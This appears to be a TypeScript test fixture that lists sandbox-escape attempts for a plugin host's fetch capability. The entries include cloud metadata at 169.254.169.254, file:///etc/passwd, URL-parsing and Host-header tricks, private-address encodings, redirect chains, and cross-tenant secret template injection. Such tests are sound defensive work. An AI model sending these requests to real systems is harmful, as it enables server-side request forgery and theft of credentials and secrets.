import { type AttemptRow, call, type From, type Known } from '../attempt-row.ts'
import { vaultOrigins } from '../places.ts'

type Url = (known: Known) => string
type Init = (known: Known) => object

const ask = (
  from: From,
  name: string,
  url: Url,
  init: Init = () => ({}),
  after = 'larder',
): AttemptRow => ({
  name,
  capability: 'http:fetch',
  from,
  after,
  sandboxOnly: true,
  tries: (known) => call('fetch', url(known), init(known)),
})

const spoils: Url = ({ world }) => world.places.spoils.origin
const larder: Url = ({ world }) => world.places.larder.origin

const withSecret =
  (text: string): Init =>
  () => ({ headers: { 'x-key': text } })

/** Each way to write where the vault is, which the manifest was granted and the operator never named. */
const byAddress = (index: number): AttemptRow => ({
  ...ask(
    'neighbour',
    `a private address, written the ${index + 1}th way`,
    ({ world }) => `${vaultOrigins(world.places)[index]}/`,
  ),
  after: 'vault',
})

const byRedirection = (
  path: string,
  from: From = 'neighbour',
  init: Init = () => ({}),
): AttemptRow =>
  ask(from, `a redirection: ${path}`, (known) => `${spoils(known)}${path}`, init, 'vault')

export const networkAttempts: readonly AttemptRow[] = [
  { ...ask('neighbour', 'a place that was granted to another plugin', larder), worksFor: 'victim' },
  { ...ask('stranger', 'a place that was granted in another tenant', larder), worksFor: 'victim' },
  ask('neighbour', 'its own place as a user of another', (known) =>
    larder(known).replace('http://', `http://${new URL(spoils(known)).host}@`),
  ),
  ask(
    'neighbour',
    'another place behind a backslash',
    (known) => `${spoils(known)}\\@${new URL(larder(known)).host}/`,
  ),
  ask('neighbour', "the host's own metrics", ({ world }) => `${world.host.url}/metrics`),
  ask('neighbour', "a cloud's metadata", () => 'http://169.254.169.254/latest/meta-data/'),
  ask('neighbour', 'a file', () => 'file:///etc/passwd'),
  ask('neighbour', 'a data URL', () => 'data:text/plain,harmless'),
  ask('neighbour', 'a host header of another place', spoils, (known) => ({
    headers: { host: new URL(larder(known)).host },
  })),
  ask('neighbour', 'a proxy of its own choice', spoils, (known) => ({
    headers: { 'proxy-authorization': 'x', forwarded: `host=${larder(known)}` },
  })),
  ...Array.from({ length: 20 }, (_, index) => byAddress(index)),
  ...[
    '/to-larder',
    '/to-vault',
    '/to-vault-by-name',
    '/twice',
    '/to-metadata',
    '/to-file',
    '/to-host',
  ].map((path) => byRedirection(path)),
  byRedirection('/to-vault', 'stranger'),
  byRedirection('/307-to-vault', 'neighbour', () => ({ method: 'POST', body: 'x' })),
  byRedirection('/to-larder', 'stranger', () => ({ redirect: 'manual' })),
  ask(
    'stranger',
    'a secret of its plugin in another tenant',
    spoils,
    withSecret('{{secret:door-key}}'),
    'secret',
  ),
  ask(
    'stranger',
    'a secret named with its tenant',
    spoils,
    withSecret('{{secret:acme/door-key}}'),
    'secret',
  ),
  ask(
    'neighbour',
    'a secret named with its plugin',
    spoils,
    withSecret('{{secret:@victim/one/door-key}}'),
    'secret',
  ),
  ask(
    'neighbour',
    'a secret by a path',
    spoils,
    withSecret('{{secret:../@victim%2Fone/door-key}}'),
    'secret',
  ),
  ask(
    'neighbour',
    'a secret in a query, escaped',
    (known) => `${spoils(known)}/?k=%7B%7Bsecret%3Avictim-door-key%7D%7D`,
    () => ({}),
    'secret',
  ),
  ask(
    'stranger',
    'a secret as a password',
    spoils,
    withSecret('{{basic:acme:door-key}}'),
    'secret',
  ),
]
